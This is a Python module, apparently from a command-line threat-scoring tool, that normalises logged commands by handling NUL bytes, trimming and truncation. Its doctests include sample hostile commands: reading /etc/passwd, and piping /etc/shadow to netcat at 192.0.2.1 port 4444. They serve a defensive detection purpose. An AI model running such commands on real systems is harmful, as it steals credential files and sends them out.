"""Command text as it is scored: one form for what was logged in several.

What is done, in this order: a NUL (argument boundary of a process title) becomes a blank, blanks at both ends go, and
what is longer than ``SCORED_CHARACTERS`` is cut. Nothing inside is rewritten: runs of blanks mean nothing to the
tokens anyway, inside quotes they mean something to the shell, and every kept character keeps its distance to its
neighbours, so a span of evidence can be found again in the log. Decoding layers (base64, caret escapes) come later
and will name themselves in ``decoded``.
"""

import re
from typing import TYPE_CHECKING, Final

from ttpline.commands.parts import split_parts
from ttpline.domain.command import NormalisedCommand
from ttpline.domain.raw_text import from_surrogates

if TYPE_CHECKING:
    import polars as pl

NORMALISER_VERSION: Final = 1
"""Raised whenever a command may be normalised to another text than before; models remember it."""

SCORED_CHARACTERS: Final = 65_536
"""Twice the longest command line that Windows can start, half of what Linux allows for one argument. Of what is
longer only the beginning is scored, so that a 10 MB line cannot stop everything else; ``is_cut`` says so."""

BLANKS: Final = " \t\n\r\v\f"
"""What shells call blank; no-break spaces and the like are ordinary characters to them."""

_LONE_SURROGATE = re.compile("[\ud800-\udfff]")


def normalised_text(command_line: str) -> str:
    """The text that is scored; applying it twice changes nothing.

    >>> normalised_text("cat\\0/etc/passwd\\0")
    'cat /etc/passwd'
    """
    if "\0" in command_line:
        command_line = command_line.replace("\0", " ")
    text = command_line.strip(BLANKS)  # the same object where there is nothing to strip
    return text if len(text) <= SCORED_CHARACTERS else text[:SCORED_CHARACTERS].rstrip(BLANKS)


def model_text(command_line: str) -> str:
    """``normalised_text`` as models take it: what no column or file can hold is replaced, character by character.

    Undecodable bytes take the form they have in columns (``domain.raw_text``), any other lone surrogate is U+FFFD, so
    a command gets the same answer whichever way it came.
    """
    text = normalised_text(command_line)
    return text if text.isascii() else _LONE_SURROGATE.sub("\ufffd", from_surrogates(text))


def model_texts(command_lines: "pl.Series") -> "pl.Series":
    """``model_text`` of a column, except that blanks at the ends may stay: no feature of any model sees them.

    A null is an empty text.
    """
    import polars as pl

    texts = command_lines.fill_null("")
    needs_work = texts.str.contains("\0", literal=True) | (texts.str.len_bytes() > SCORED_CHARACTERS)
    if not needs_work.any():
        return texts
    rows = needs_work.arg_true()
    replaced = pl.Series([model_text(text) for text in texts.gather(rows)], dtype=pl.String)
    return texts.scatter(rows, replaced)


def normalise(command_line: str) -> NormalisedCommand:
    """``command_line`` with its scored text and the simple commands in it.

    >>> normalise(" cat /etc/shadow | nc 192.0.2.1 4444 ").parts
    ('cat /etc/shadow', 'nc 192.0.2.1 4444')
    """
    text = normalised_text(command_line)
    return NormalisedCommand(text, command_line, (), split_parts(text))


def is_cut(command: NormalisedCommand) -> bool:
    """Whether only the beginning of the command is scored.

    >>> is_cut(normalise("ls " + "a" * SCORED_CHARACTERS)), is_cut(normalise("ls"))
    (True, False)
    """
    too_long = len(command.original) > SCORED_CHARACTERS
    return too_long and len(command.original.replace("\0", " ").strip(BLANKS)) > len(command.text)
